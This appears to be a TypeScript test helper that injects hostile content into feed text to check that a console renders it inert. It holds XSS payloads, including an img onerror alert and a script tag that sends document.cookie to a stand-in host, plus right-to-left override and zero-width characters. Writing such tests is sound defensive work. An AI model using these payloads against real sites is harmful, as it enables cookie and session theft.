import type { Rng } from './prng';

/**
 * Content a real feed carries sooner or later and the console must render as
 * inert text: markup that would run if it were ever put into the DOM, a
 * right-to-left override that reverses what follows, and invisible
 * zero-width characters inside words.
 */
export type HostileKind = 'img' | 'script' | 'rlo' | 'zero-width';

export const HOSTILE_KINDS: readonly HostileKind[] = ['img', 'script', 'rlo', 'zero-width'];

const MARKUP: Readonly<Record<'img' | 'script', readonly string[]>> = {
  img: ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert(document.domain)>'],
  script: ["<script>alert('x')</script>", "<script>fetch('https://evil.example/?c='+document.cookie)</script>"],
};

const RLO = '\u202E';
const ZERO_WIDTH = ['\u200B', '\u200D', '\uFEFF'];

function insertAt(text: string, at: number, insert: string): string {
  return text.slice(0, at) + insert + text.slice(at);
}

export function addHostile(text: string, kind: HostileKind, rng: Rng): string {
  switch (kind) {
    case 'img':
    case 'script': {
      const markup = rng.pick(MARKUP[kind]);
      return rng.chance(0.5) ? `${text} ${markup}` : `${markup} ${text}`;
    }
    case 'rlo': {
      const spaces = [...text.matchAll(/ /g)].map((match) => match.index);
      return spaces.length > 0 ? insertAt(text, rng.pick(spaces) + 1, RLO) : RLO + text;
    }
    case 'zero-width': {
      const inner = [...text.matchAll(/(?<=\p{L})\p{L}/gu)].map((match) => match.index);
      if (inner.length === 0) return ZERO_WIDTH.join('') + text;
      // From the end backwards, so earlier insertions do not shift the later positions.
      const positions = ZERO_WIDTH.map(() => rng.pick(inner)).sort((a, b) => b - a);
      return positions.reduce((result, at, i) => insertAt(result, at, ZERO_WIDTH[i]!), text);
    }
  }
}
